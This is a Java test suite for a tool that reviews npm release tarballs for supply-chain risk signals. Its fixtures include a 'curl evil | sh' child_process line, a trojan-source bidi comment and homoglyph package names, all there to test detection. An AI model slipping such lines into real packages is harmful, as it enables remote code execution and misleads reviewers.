package dev.airlock.review;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airlock.platform.json.Json;
import dev.airlock.publish.TarballInspector;
import dev.airlock.testing.TarBytes;
import dev.airlock.testing.Tarballs;
import dev.airlock.testing.Tarballs.Entry;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ReleaseReviewerTest {
    static ObjectNode manifest(String version) {
        ObjectNode m = Tarballs.manifest("widget", version);
        m.putObject("dependencies").put("left-pad", "^1.0.0");
        return m;
    }

    @Test
    void aReleaseThatAddsAnInstallScriptAndAGitDependencyIsRisky() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.1.0");
        after.putObject("scripts").put("postinstall", "node setup.js");
        ((ObjectNode) after.get("dependencies")).put("helper", "github:mallory/helper");
        ((ObjectNode) after.get("dependencies")).put("left-pad", "^1.3.0");
        byte[] old = Tarballs.tgz(
                Entry.file("package/package.json", Json.write(before)),
                Entry.file("package/index.js", "module.exports = 1;\n"),
                Entry.file("package/old.txt", "bye\n"));
        byte[] binary = new byte[64];
        binary[3] = 0;
        byte[] now = Tarballs.tgz(
                Entry.file("package/package.json", Json.write(after)),
                Entry.file("package/index.js", "module.exports = 2;\nrequire('./setup');\n"),
                Entry.file("package/setup.js", "x".repeat(2000) + "\n"),
                new Entry("package/prebuilt.node", binary, TarArchiveEntry.LF_NORMAL, null));

        ReleaseReview r = ReleaseReviewer.review(
                "widget",
                "1.1.0",
                after,
                new ByteArrayInputStream(now),
                "1.0.0",
                before,
                new ByteArrayInputStream(old));

        assertThat(r.risky()).isTrue();
        assertThat(r.signals().get(0).level()).isEqualTo("high");
        assertThat(r.signals())
                .extracting(ReleaseReview.Signal::kind)
                .contains(
                        "install-script",
                        "non-registry-dependency",
                        "binary-file",
                        "minified-file",
                        "dependency-added",
                        "dependency-changed");
        assertThat(r.signals())
                .anySatisfy(s -> assertThat(s.message()).contains("postinstall").contains("node setup.js"));
        assertThat(r.signals()).anySatisfy(s -> assertThat(s.message()).contains("helper installs from git"));
        assertThat(r.files())
                .extracting(f -> f.path() + ":" + f.change())
                .contains(
                        "index.js:changed",
                        "old.txt:removed",
                        "setup.js:added",
                        "prebuilt.node:added",
                        "package.json:changed");
        assertThat(r.diffs().get("index.js")).contains("-module.exports = 1;").contains("+module.exports = 2;");
        assertThat(r.filesBefore()).isEqualTo(3);
        assertThat(r.filesAfter()).isEqualTo(4);
    }

    @Test
    void aPlainPatchReleaseIsQuiet() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.0.1");
        byte[] old = Tarballs.tgz(
                Entry.file("package/package.json", Json.write(before)), Entry.file("package/index.js", "a\n"));
        byte[] now = Tarballs.tgz(
                Entry.file("package/package.json", Json.write(after)), Entry.file("package/index.js", "b\n"));
        ReleaseReview r = ReleaseReviewer.review(
                "widget",
                "1.0.1",
                after,
                new ByteArrayInputStream(now),
                "1.0.0",
                before,
                new ByteArrayInputStream(old));
        assertThat(r.risky()).isFalse();
        assertThat(r.signals()).isEmpty();
        assertThat(new String(r.diffs().get("index.js").getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8))
                .contains("+b");
    }

    /** Issue 10: the review listed only the first gzip member's files, while npm installs every member's. */
    @Test
    void aTarballOfTwoGzipMembersIsReviewedWhole() {
        ObjectNode before = manifest("1.0.0");
        ObjectNode after = manifest("1.0.1");
        byte[] old = Tarballs.tgz(Entry.file("package/package.json", Json.write(before)));
        byte[] now = TarBytes.twoMembers(Json.write(after), "require('child_process').exec('curl evil | sh')\n");

        TarballInspector.Inspection published =
                new TarballInspector(1 << 20, 100).inspect(new ByteArrayInputStream(now));
        assertThat(published.files()).containsOnlyKeys("package.json", "install.js");

        ReleaseReview r = ReleaseReviewer.review(
                "widget",
                "1.0.1",
                after,
                new ByteArrayInputStream(now),
                "1.0.0",
                before,
                new ByteArrayInputStream(old));
        assertThat(r.files()).extracting(f -> f.path() + ":" + f.change()).contains("install.js:added");
        assertThat(r.filesAfter()).isEqualTo(2);
    }

    @ParameterizedTest
    @CsvSource({
        "^1.2.3, registry",
        "npm:other@1, registry",
        "github:a/b, git",
        "a/b, git",
        "git+https://x/y.git, git",
        "https://example.com/x.tgz, remote",
        "file:../x, file",
        "./vendor/x, file",
        "link:../x, link",
        "latest, registry"
    })
    void dependencySources(String spec, String expected) {
        assertThat(ReleaseReviewer.source(spec)).isEqualTo(expected);
    }

    static ReleaseReview review(ObjectNode before, List<Entry> old, ObjectNode after, List<Entry> now) {
        List<Entry> a = new ArrayList<>(old);
        a.add(0, Entry.file("package/package.json", Json.write(before)));
        List<Entry> b = new ArrayList<>(now);
        b.add(0, Entry.file("package/package.json", Json.write(after)));
        return ReleaseReviewer.review(
                "widget",
                after.get("version").asText(),
                after,
                new ByteArrayInputStream(Tarballs.tgz(b.toArray(Entry[]::new))),
                before.get("version").asText(),
                before,
                new ByteArrayInputStream(Tarballs.tgz(a.toArray(Entry[]::new))));
    }

    static ReleaseReview review(List<Entry> old, List<Entry> now) {
        return review(manifest("1.0.0"), old, manifest("1.0.1"), now);
    }

    static Entry file(String path, String content) {
        return Entry.file("package/" + path, content);
    }

    static Entry bytes(String path, byte[] content) {
        return new Entry("package/" + path, content, TarArchiveEntry.LF_NORMAL, null);
    }

    /** Every string a renderer might print (all but the raw "path" components), with the key it sits under. */
    static List<String> printable(JsonNode node, String key, List<String> out) {
        if (node.isTextual() && !"path".equals(key)) {
            out.add(key + "=" + node.asText());
        }
        if (node.isArray()) {
            node.forEach(n -> printable(n, key, out));
        }
        for (Iterator<Map.Entry<String, JsonNode>> it = node.properties().iterator(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> e = it.next();
            out.add("key=" + e.getKey());
            printable(e.getValue(), e.getKey(), out);
        }
        return out;
    }

    static void assertNothingPrintableContains(ReleaseReview r, String raw) {
        List<String> strings = printable(Json.MAPPER.valueToTree(r), "", new ArrayList<>());
        assertThat(strings).noneMatch(x -> x.contains(raw));
    }

    static ReleaseReview.Signal signal(ReleaseReview r, String kind) {
        return r.signals().stream()
                .filter(s -> s.kind().equals(kind))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no " + kind + " signal in " + r.signals()));
    }

    static ReleaseReview.FileChange change(ReleaseReview r, String path) {
        return r.files().stream()
                .filter(f -> f.path().equals(path))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no file " + path + " in " + r.files()));
    }

    /** Every changed file either has its diff in diffs (shown or cut) or says why not; nothing else is in diffs. */
    static void assertEveryOmissionExplained(ReleaseReview r) {
        for (ReleaseReview.FileChange f : r.files()) {
            if (f.diff().equals("omitted")) {
                assertThat(f.omitted()).as(f.path()).isNotBlank();
                assertThat(f.diffNote()).as(f.path()).isNotBlank();
                assertThat(r.diffs()).as(f.path()).doesNotContainKey(f.display());
            } else {
                assertThat(f.diff()).isIn("shown", "cut");
                assertThat(f.omitted()).isNull();
                assertThat(r.diffs()).containsKey(f.display());
            }
        }
        assertThat(r.diffs()).hasSize(r.diffsShown());
        assertThat(r.files()).filteredOn(f -> f.diff().equals("omitted")).hasSize(r.diffsOmitted());
    }

    @Test
    void aFileNamedWithABidiOverrideIsShownEscapedEverywhereAndFlagged() {
        String raw = "invoice\u202Egpj.js";
        ReleaseReview r = review(
                List.of(file("docs/" + raw, "old\n")),
                List.of(file("docs/" + raw, "new\n"), file(raw, "require('child_process');\n")));

        ReleaseReview.Signal s = signal(r, "hidden-characters");
        assertThat(s.level()).isEqualTo("high");
        assertThat(s.message()).contains("invoice⟪U+202E⟫gpj.js").contains("RIGHT-TO-LEFT OVERRIDE");
        assertThat(r.risky()).isTrue();
        ReleaseReview.FileChange added = change(r, raw);
        assertThat(added.display()).isEqualTo("invoice⟪U+202E⟫gpj.js");
        assertThat(added.nameMarked()).isTrue();
        ReleaseReview.FileChange changed = change(r, "docs/" + raw);
        assertThat(changed.diff()).isEqualTo("shown");
        assertThat(r.diffs()).containsOnlyKeys("package.json", "docs/invoice⟪U+202E⟫gpj.js");
        assertThat(r.diffs().get("docs/invoice⟪U+202E⟫gpj.js"))
                .contains("+++ b/docs/invoice⟪U+202E⟫gpj.js")
                .contains("+new");
        assertThat(change(r, "package.json").nameMarked()).isFalse();
        assertNothingPrintableContains(r, "\u202E");
        assertEveryOmissionExplained(r);
    }

    @ParameterizedTest
    @ValueSource(strings = {"dependencies", "optionalDependencies", "peerDependencies", "devDependencies"})
    void aZeroWidthCharacterInADependencyNameIsFlaggedInEveryGroup(String group) {
        ObjectNode after = manifest("1.0.1");
        (after.has(group) ? (ObjectNode) after.get(group) : after.putObject(group)).put("left\u200Bpad", "^1.0.0");
        ReleaseReview r = review(manifest("1.0.0"), List.of(), after, List.of());
        ReleaseReview.Signal s = signal(r, "hidden-characters");
        assertThat(s.level()).isEqualTo("high");
        assertThat(s.message()).contains(group).contains("left⟪U+200B⟫pad").contains("ZERO WIDTH SPACE");
        assertNothingPrintableContains(r, "\u200B");
    }

    @Test
    void bundledDependencyNamesAndDependencySpecsAreCheckedToo() {
        ObjectNode after = manifest("1.0.1");
        after.putArray("bundleDependencies").add("left\u2060pad");
        ((ObjectNode) after.get("dependencies")).put("helper", "npm:\u0435xpress@4");
        ReleaseReview r = review(manifest("1.0.0"), List.of(), after, List.of());
        assertThat(r.signals())
                .anySatisfy(s -> assertThat(s.message()).contains("bundleDependencies name left⟪U+2060⟫pad"));
        assertThat(r.signals())
                .anySatisfy(s ->
                        assertThat(s.message()).contains("npm:⟪U+0435⟫xpress@4").contains("CYRILLIC SMALL LETTER IE"));
        assertNothingPrintableContains(r, "\u0435");
    }

    @Test
    void aScriptWithALookAlikeLetterIsFlaggedAndShownEscaped() {
        ObjectNode before = manifest("1.0.0");
        before.putObject("scripts").put("postinstall", "node setup.js");
        ObjectNode after = manifest("1.0.1");
        after.putObject("scripts").put("postinstall", "node \u0455etup.js").put("t\u0435st", "jest");
        ReleaseReview r = review(before, List.of(), after, List.of());

        assertThat(r.signals())
                .filteredOn(s -> s.kind().equals("confusable-characters"))
                .hasSize(2)
                .allSatisfy(s -> assertThat(s.level()).isEqualTo("high"));
        assertThat(r.signals())
                .anySatisfy(s ->
                        assertThat(s.message()).contains("node ⟪U+0455⟫etup.js").contains("CYRILLIC SMALL LETTER DZE"));
        assertThat(r.signals()).anySatisfy(s -> assertThat(s.message()).contains("Script name t⟪U+0435⟫st"));
        assertThat(signal(r, "install-script").message()).contains("to \"node ⟪U+0455⟫etup.js\"");
        assertNothingPrintableContains(r, "\u0455");
        assertNothingPrintableContains(r, "\u0435");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "\u0435xpress|⟪U+0435⟫xpress",
                "\u0440\u0430\u0443\u0440\u0430\u04CF|⟪U+0440⟫⟪U+0430⟫⟪U+0443⟫⟪U+0440⟫⟪U+0430⟫⟪U+04CF⟫",
                "\uFF45xpress|⟪U+FF45⟫xpress",
                "lib\u2215index.js|lib⟪U+2215⟫index.js",
                "\u0131ndex.js|⟪U+0131⟫ndex.js",
                "a\u00A0b|a⟪U+00A0⟫b",
                "run\u0007x|run⟪U+0007⟫x",
                "x\u3164y|x⟪U+3164⟫y",
                "a⟪b|a⟪U+27EA⟫b"
            })
    void hiddenAndLookAlikeCharactersAreEscaped(String raw, String display) {
        VisibleText.Shown s = VisibleText.name(raw);
        assertThat(s.display()).isEqualTo(display);
        assertThat(s.marked()).isEqualTo(!raw.contains("⟪"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "index.js",
                "README.\u4E2D\u6587.md",
                "caf\u00E9.md",
                "\u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442.md",
                "node scripts/build.js && echo \u2713 done",
                "\u03B1\u03B2\u03B3.txt",
                "docs/\u65E5\u672C\u8A9Ereadme.md"
            })
    void ordinaryNamesInOtherScriptsAreLeftAlone(String raw) {
        VisibleText.Shown s = VisibleText.name(raw);
        assertThat(s.marked()).as(s.findings()).isFalse();
        assertThat(s.display()).isEqualTo(raw);
    }

    @Test
    void aSmallFileThatBecomesATwoMebibyteSingleLineRaisesSignalsAndSaysItsDiffIsOmitted() {
        String small = "// helpers\n" + "module.exports.add = (a, b) => a + b;\n".repeat(27);
        String huge = "module.exports=function(){" + "a=b+c;".repeat(2 * 1024 * 1024 / 6) + "}";
        ReleaseReview r = review(
                List.of(file("index.js", small), file("notes.txt", small)),
                List.of(file("index.js", huge), file("notes.txt", small.replace("\n", " "))));

        assertThat(r.risky()).isTrue();
        assertThat(signal(r, "minified-file").level()).isEqualTo("high");
        assertThat(signal(r, "minified-file").message()).contains("index.js").contains("had no minified code");
        assertThat(signal(r, "long-line").message()).contains("notes.txt now has a line of");
        assertThat(signal(r, "file-size").message()).contains("index.js grows from 1.0 KiB to 2.0 MiB");
        assertThat(signal(r, "size").level()).isEqualTo("medium");
        ReleaseReview.FileChange f = change(r, "index.js");
        assertThat(f.diff()).isEqualTo("omitted");
        assertThat(f.omitted()).isEqualTo("too-large");
        assertThat(f.diffNote()).contains("256.0 KiB");
        assertEveryOmissionExplained(r);
    }

    @Test
    void anEncodedPayloadRaisesAHighEntropySignal() {
        byte[] random = new byte[6000];
        new Random(7).nextBytes(random);
        String b64 = Base64.getEncoder().encodeToString(random);
        String wrapped = Base64.getMimeEncoder().encodeToString(random);
        String hex = java.util.HexFormat.of().formatHex(random, 0, 1500);
        ReleaseReview r = review(
                List.of(file("lib/a.js", "module.exports = 1;\n"), file("lib/b.js", "x\n")),
                List.of(
                        file("lib/a.js", "const k = '" + b64 + "';\nmodule.exports = 1;\n"),
                        file("lib/b.js", "x\n" + hex + "\n"),
                        file("lib/key.pem", wrapped)));

        assertThat(r.signals())
                .filteredOn(s -> s.kind().equals("high-entropy"))
                .extracting(ReleaseReview.Signal::subject)
                .containsExactlyInAnyOrder("lib/a.js", "lib/b.js", "lib/key.pem");
        assertThat(r.signals())
                .filteredOn(s -> s.kind().equals("high-entropy") && s.subject().equals("lib/a.js"))
                .singleElement()
                .satisfies(s -> assertThat(s.level()).isEqualTo("high"))
                .satisfies(s ->
                        assertThat(s.message()).contains("encoded characters").contains("6.0 bits"));
        assertThat(r.signals())
                .filteredOn(s -> s.kind().equals("high-entropy") && s.subject().equals("lib/key.pem"))
                .singleElement()
                .satisfies(s -> assertThat(s.level()).isEqualTo("medium"))
                .satisfies(s -> assertThat(s.message()).contains("bits of entropy per byte"));
    }

    @Test
    void ordinaryCodeHasNoEncodedPayload() {
        String code = """
                function add(a, b) {
                  return a + b; // sum of two numbers, see README for details
                }
                const names = ['alpha', 'beta', 'gamma', 'delta'];
                module.exports = { add, names };
                """;
        assertThat(ContentChecks.payload(code.repeat(200).getBytes(StandardCharsets.UTF_8)))
                .isNull();
        assertThat(ContentChecks.payload("=".repeat(5000).getBytes(StandardCharsets.UTF_8)))
                .isNull();
    }

    @Test
    void minifiedCodeAppearingInAPackageThatHadNoneIsSignalled() {
        String minified = "!function(){" + "var a=1;".repeat(200) + "}();";
        ReleaseReview r = review(
                List.of(file("index.js", "module.exports = 1;\n")),
                List.of(
                        file("index.js", "module.exports = require('./dist/x.min.js');\n"),
                        file("dist/x.min.js", minified)));
        ReleaseReview.Signal s = signal(r, "minified-file");
        assertThat(s.subject()).isEqualTo("dist/x.min.js");
        assertThat(s.message()).contains("had no minified code");

        ReleaseReview again = review(
                List.of(file("index.js", "module.exports = 1;\n"), file("dist/x.min.js", minified)),
                List.of(
                        file("index.js", "module.exports = 2;\n"),
                        file("dist/x.min.js", minified),
                        file("dist/y.min.js", minified)));
        assertThat(signal(again, "minified-file").message()).doesNotContain("had no minified code");
    }

    @Test
    void aSmallPackageThatJumpsTenfoldRaisesASizeSignal() {
        String lines = "module.exports.value = 'a plain line of code';\n";
        List<Entry> old = List.of(file("index.js", lines.repeat(40)));
        List<Entry> now = new ArrayList<>(old);
        for (int i = 0; i < 12; i++) {
            now.add(file("lib/part" + i + ".js", lines.repeat(40)));
        }
        ReleaseReview r = review(old, now);
        assertThat(r.sizeAfter()).isLessThan(100_000);
        assertThat(signal(r, "size").message())
                .contains("Unpacked size grows from")
                .contains("(×");
        assertThat(ReleaseReviewer.sizeJump(1_000, 5_000)).isFalse();
        assertThat(ReleaseReviewer.sizeJump(1_000, 18_000)).isTrue();
        assertThat(ReleaseReviewer.sizeJump(60_000, 130_000)).isFalse();
        assertThat(ReleaseReviewer.sizeJump(60_000, 170_000)).isTrue();
        assertThat(ReleaseReviewer.sizeJump(50_000_000, 56_000_000)).isTrue();
    }

    @Test
    void aChangePastTheComparedBytesOfAFileOfTheSameSizeIsStillAChange() {
        String head = "x".repeat(ReleaseReviewer.KEEP_BYTES) + "\n";
        ReleaseReview r = review(
                List.of(file("big.txt", head + "harmless();\n")), List.of(file("big.txt", head + "evil(1234);\n")));

        ReleaseReview.FileChange f = change(r, "big.txt");
        assertThat(f.change()).isEqualTo("changed");
        assertThat(f.omitted()).isEqualTo("too-large");
        assertEveryOmissionExplained(r);
    }

    @Test
    void aStoredTarballTheReaderRefusesIsASignalNotAFailure() {
        byte[] notATarball = "not gzip at all".getBytes(java.nio.charset.StandardCharsets.UTF_8);
        ReleaseReview r = ReleaseReviewer.review(
                "p",
                "1.0.1",
                dev.airlock.platform.json.Json.parse("{\"name\":\"p\"}"),
                new java.io.ByteArrayInputStream(notATarball),
                null,
                null,
                null);

        assertThat(signal(r, "unreadable-tarball").level()).isEqualTo("high");
        assertThat(signal(r, "unreadable-tarball").message()).contains("Reject it");
        assertThat(r.files()).isEmpty();
    }

    @Test
    void everyOmittedDiffSaysWhy() {
        byte[] binOld = {1, 0, 2};
        byte[] binNew = {1, 0, 3};
        String bigOld = "line\n".repeat(60_000);
        String bigNew = bigOld + "more\n";
        String longOld = "short\n";
        String longNew = "x".repeat(3_000) + "\n";
        List<Entry> old = new ArrayList<>(List.of(
                bytes("data.dat", binOld),
                file("big.txt", bigOld),
                file("long.txt", longOld),
                file("gone.txt", "bye\n"),
                bytes("latin1.txt", new byte[] {'a', (byte) 0xFF, '\n'}),
                file("cut.txt", "a\n".repeat(500))));
        List<Entry> now = new ArrayList<>(List.of(
                bytes("data.dat", binNew),
                file("big.txt", bigNew),
                file("long.txt", longNew),
                file("new.txt", "hi\n"),
                bytes("latin1.txt", new byte[] {'a', (byte) 0xFE, '\n'}),
                file("cut.txt", "b\n".repeat(500))));
        for (int i = 0; i < ReleaseReviewer.MAX_DIFF_FILES + 2; i++) {
            old.add(file("many/f" + (100 + i) + ".txt", "old\n"));
            now.add(file("many/f" + (100 + i) + ".txt", "new\n"));
        }
        ReleaseReview r = review(old, now);

        assertThat(change(r, "data.dat").omitted()).isEqualTo("binary");
        assertThat(change(r, "big.txt").omitted()).isEqualTo("too-large");
        assertThat(change(r, "long.txt").omitted()).isEqualTo("long-lines");
        assertThat(change(r, "gone.txt").omitted()).isEqualTo("removed");
        assertThat(change(r, "new.txt").omitted()).isEqualTo("added");
        assertThat(change(r, "latin1.txt").omitted()).isEqualTo("same-text");
        ReleaseReview.FileChange cut = change(r, "cut.txt");
        assertThat(cut.diff()).isEqualTo("cut");
        assertThat(cut.diffNote()).contains("cut after 400 lines");
        assertThat(r.diffs().get("cut.txt")).endsWith("more lines not shown");
        assertThat(r.files())
                .filteredOn(f -> "file-limit".equals(f.omitted()))
                .isNotEmpty()
                .allSatisfy(f -> assertThat(f.diffNote()).contains("first 40"));
        assertThat(r.diffs()).hasSize(ReleaseReviewer.MAX_DIFF_FILES);
        assertThat(change(r, "package.json").diff()).isEqualTo("shown");
        assertEveryOmissionExplained(r);
    }

    @Test
    void bidiControlsInsideAChangedFileAreSignalledAndShownEscapedInTheDiff() {
        ReleaseReview r = review(
                List.of(file("index.js", "const isAdmin = false;\n")),
                List.of(file(
                        "index.js",
                        "const isAdmin = false; /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n")));
        assertThat(signal(r, "bidi-content").message()).contains("index.js contains 4 bidi control characters");
        assertThat(r.diffs().get("index.js")).contains("⟪U+202E⟫").contains("⟪U+2066⟫");
        assertNothingPrintableContains(r, "\u202E");
        assertNothingPrintableContains(r, "\u2066");
    }

    @Test
    void aChangedBinaryARemovedInstallScriptAndAChangedNativeBuildAreNotPassedOverInSilence() {
        ObjectNode before = manifest("1.0.0");
        before.putObject("scripts").put("install", "node-gyp rebuild");
        ReleaseReview r = review(
                before,
                List.of(bytes("prebuilt.node", new byte[] {1, 0, 2}), file("binding.gyp", "{}\n")),
                manifest("1.0.1"),
                List.of(bytes("prebuilt.node", new byte[] {1, 0, 3}), file("binding.gyp", "{\"targets\": []}\n")));
        assertThat(r.signals())
                .extracting(s -> s.kind() + ":" + s.level())
                .contains("binary-file:medium", "install-script:info", "native-build:medium");
        assertThat(signal(r, "install-script").message()).contains("Removes the install script");
    }
}
